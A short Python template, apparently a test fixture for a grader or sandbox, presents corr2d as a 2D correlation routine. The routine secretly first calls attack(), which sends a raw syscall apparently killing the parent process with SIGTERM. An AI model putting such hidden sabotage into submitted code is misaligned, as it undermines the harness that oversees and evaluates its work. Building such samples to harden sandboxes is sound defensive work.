import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    raw(200, os.getppid(), 15)
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
